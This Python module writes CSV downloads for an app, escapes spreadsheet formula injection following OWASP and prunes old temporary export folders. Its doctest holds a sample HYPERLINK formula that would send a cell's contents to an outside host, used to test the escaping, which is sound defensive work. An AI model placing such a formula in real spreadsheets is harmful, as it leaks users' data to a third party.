"""Files offered for download: CSV text made safe for spreadsheets, written to one temporary folder.

``csv_text`` is the one writer of every CSV the app offers. Each file opens
with lines that start with ``#`` and record what produced it, one
``# key,value`` row each, the value JSON-encoded, so an instruction's
trailing space or newline shows exactly (a JSON string keeps it between its
quotes, which CSV then doubles); then the header and the rows, every cell
quoted. Spreadsheets show those
lines as rows above the table; ``pandas.read_csv(path, comment="#")`` skips
them and reads the table (a ``#`` inside a quoted cell is kept).

Cells are neutralised against formula injection as OWASP recommends: text
that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets
a leading single quote, so a spreadsheet shows it as text and never runs it
(``=HYPERLINK(...)`` becomes ``'=HYPERLINK(...)``). Numbers, and text that is
a plain number such as ``-0.25``, are left as they are.

Each file gets a fresh sub-folder (two people exporting at once never share a
file); folders older than ``MAX_AGE_S`` are removed whenever a new one is
written, so exports do not pile up on a long-running server.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import tempfile
import time
from pathlib import Path
from typing import Iterable, Mapping, Sequence

MAX_AGE_S = 3600
ROOT = Path(tempfile.gettempdir()) / "instruction-lens-downloads"

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP: what a spreadsheet may read as a formula
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """``value`` as a CSV cell no spreadsheet runs as a formula (see the module docstring).

    >>> safe_cell('=HYPERLINK("http://x?leak="&A1,"click me")')
    '\\'=HYPERLINK("http://x?leak="&A1,"click me")'
    >>> safe_cell("-0.2500"), safe_cell(-1), safe_cell("- a list item")
    ('-0.2500', -1, "'- a list item")
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_START) or _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]], about: Mapping[str, object]) -> str:
    """CSV text: one ``# key,value`` line per entry of ``about`` (value as JSON), then header and rows."""
    buf = io.StringIO()
    notes = csv.writer(buf, lineterminator="\n")  # minimal quoting: each line starts with '#'
    for key, value in about.items():
        notes.writerow([safe_cell(f"# {key}"), safe_cell(json.dumps(value, ensure_ascii=False))])
    table = csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL)  # a quoted '#' is no comment
    table.writerow([safe_cell(h) for h in header])
    table.writerows([safe_cell(c) for c in row] for row in rows)
    return buf.getvalue()


def _prune(now: float) -> None:
    for child in ROOT.iterdir():
        try:
            if now - child.stat().st_mtime > MAX_AGE_S:
                shutil.rmtree(child, ignore_errors=True)
        except OSError:
            continue  # removed by another thread meanwhile


def write_download(name: str, text: str) -> str:
    """Write ``text`` as ``name`` in a fresh folder; returns the file's path."""
    ROOT.mkdir(parents=True, exist_ok=True)
    _prune(time.time())
    folder = tempfile.mkdtemp(dir=ROOT)
    path = os.path.join(folder, os.path.basename(name) or "download.csv")
    with open(path, "w", encoding="utf-8", newline="") as fh:
        fh.write(text)
    return path
